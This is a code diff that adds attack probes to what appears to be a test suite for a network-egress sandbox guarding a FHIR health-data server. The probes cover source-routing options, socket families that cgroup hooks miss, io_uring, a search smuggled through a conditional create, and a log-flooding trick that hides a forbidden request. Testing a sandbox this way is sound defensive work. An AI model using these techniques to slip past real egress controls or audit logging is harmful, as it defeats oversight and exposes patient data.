@@ -483,6 +483,113 @@ def listen_inbound(c: dict[str, Any]) -> dict[str, Any]:
     return {"accepted": True, "sent": err(lambda: conn.send(FORBIDDEN))}
 
 
+@attack
+def listen_backlog0(c: dict[str, Any]) -> dict[str, Any]:
+    """A listener with backlog 0: after the first SYN the kernel answers with SYN cookies, whose
+    SYN-ACK leaves without an owning socket.  Whoever completes a handshake gets the secret."""
+    srv = socket.socket()
+    srv.bind(("127.0.0.1", 0))
+    srv.listen(0)
+    print(json.dumps({"port": srv.getsockname()[1]}), flush=True)
+    srv.settimeout(3)
+    sent = []
+    try:
+        while True:
+            conn, _peer = srv.accept()
+            sent.append(err(lambda: conn.send(FORBIDDEN)))
+    except (socket.timeout, OSError):
+        pass
+    return {"accepted": len(sent), "sent": sent}
+
+
+@attack
+def routing_headers(c: dict[str, Any]) -> dict[str, Any]:
+    """Options that send packets elsewhere than the connect hook saw: an IPv6 segment routing
+    header, hop-by-hop and destination options, an IPv4 loose source route; then the same route
+    as ancillary data of one UDP datagram to an allowed endpoint (no sticky option needed)."""
+    out = {}
+    v6 = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
+    # SRH (type 4) with one segment, ::1
+    srh = bytes([0, 2, 4, 0, 0, 0, 0, 0]) + socket.inet_pton(socket.AF_INET6, "::1")
+    out["rthdr"] = err(lambda: v6.setsockopt(socket.IPPROTO_IPV6, 57, srh) or "set")
+    pad = bytes([0, 0, 1, 4, 0, 0, 0, 0])  # an options header with a PadN
+    out["hopopts"] = err(lambda: v6.setsockopt(socket.IPPROTO_IPV6, 54, pad) or "set")
+    out["dstopts"] = err(lambda: v6.setsockopt(socket.IPPROTO_IPV6, 59, pad) or "set")
+    v4 = socket.socket()
+    lsrr = bytes([1, 131, 7, 4]) + socket.inet_aton("127.0.0.2")  # NOP, LSRR via 127.0.0.2
+    out["ip_options"] = err(lambda: v4.setsockopt(socket.IPPROTO_IP, 4, lsrr) or "set")
+    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    # per-datagram options: a source route, and harmless no-ops (which the network would deliver:
+    # the packet-level check cannot tell options apart, and needs not)
+    out["lsrr_cmsg"] = err(lambda: u.sendmsg([SECRET_DATAGRAM], [(socket.IPPROTO_IP, 7, lsrr)], 0, addr(c["lab4"])))
+    out["nop_cmsg"] = err(lambda: u.sendmsg([SECRET_DATAGRAM], [(socket.IPPROTO_IP, 7, bytes([1, 1, 1, 1]))], 0,
+                                           addr(c["lab4"])))
+    out["plain_datagram"] = err(lambda: u.sendto(b"plain", addr(c["lab4"])))
+    return out
+
+
+SECRET_DATAGRAM = b"Patient/secret over a source route"
+
+
+@attack
+def socket_families(c: dict[str, Any]) -> dict[str, Any]:
+    """Socket families no cgroup hook sees (vsock leaves the host), and io_uring."""
+    out = {}
+    for name, fam, kind in [("vsock", 40, socket.SOCK_STREAM), ("tipc", 30, socket.SOCK_RDM), ("rds", 21, socket.SOCK_SEQPACKET),
+                            ("kcm", 41, socket.SOCK_DGRAM), ("smc", 43, socket.SOCK_STREAM), ("alg", 38, socket.SOCK_SEQPACKET),
+                            ("packet", 17, socket.SOCK_DGRAM), ("unix", socket.AF_UNIX, socket.SOCK_STREAM),
+                            ("netlink", 16, socket.SOCK_RAW)]:
+        fd = libc.socket(fam, kind, 0)
+        out[name] = "created" if fd >= 0 else ctypes.get_errno()
+        if fd >= 0:
+            os.close(fd)
+    pair = (ctypes.c_int * 2)()
+    out["socketpair_vsock"] = "created" if libc.socketpair(40, socket.SOCK_STREAM, 0, pair) == 0 else ctypes.get_errno()
+    params = ctypes.create_string_buffer(120)
+    fd = libc.syscall(425, 4, params)
+    out["io_uring"] = "created" if fd >= 0 else ctypes.get_errno()
+    return out
+
+
+@attack
+def if_none_exist(c: dict[str, Any]) -> dict[str, Any]:
+    """A conditional create: its If-None-Exist value is a search the server runs (200 for a
+    match, 201 for none), with only create in the envelope."""
+    body = b'{"resourceType":"Observation","status":"final","code":{"text":"probe"}}'
+    s = socket.create_connection(addr(c["fhir"]), timeout=2)
+    req = (b"POST /fhir/Observation HTTP/1.1\r\nHost: fhir\r\nContent-Type: application/fhir+json\r\n"
+           b"If-None-Exist: subject:Patient.family=Secret\r\nContent-Length: " + str(len(body)).encode() +
+           b"\r\n\r\n" + body)
+    return {"conditional_create": err(lambda: s.send(req))}
+
+
+@attack
+def flood_then_forbidden(c: dict[str, Any]) -> dict[str, Any]:
+    """Four processes flood the enforcer with cheap egress denials (UDP to new ports) while one
+    forbidden FHIR request is sent in the middle: is it recorded, or only counted as lost?"""
+    secs = float(c.get("seconds", 2.0))
+    kids = []
+    for _k in range(4):
+        pid = os.fork()
+        if pid == 0:
+            u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+            n, t0 = 0, time.time()
+            while time.time() - t0 < secs:
+                try:
+                    u.sendto(b"x", ("127.0.0.3", 20000 + n % 20000))
+                except OSError:
+                    pass
+                n += 1
+            os._exit(0)
+        kids.append(pid)
+    time.sleep(secs / 2)
+    s = socket.create_connection(addr(c["fhir"]), timeout=2)
+    res = err(lambda: s.send(FORBIDDEN))
+    for p in kids:
+        os.waitpid(p, 0)
+    return {"forbidden": res}
+
+
 def main() -> None:
     name, cfg = sys.argv[1], json.loads(sys.argv[2])
     try:
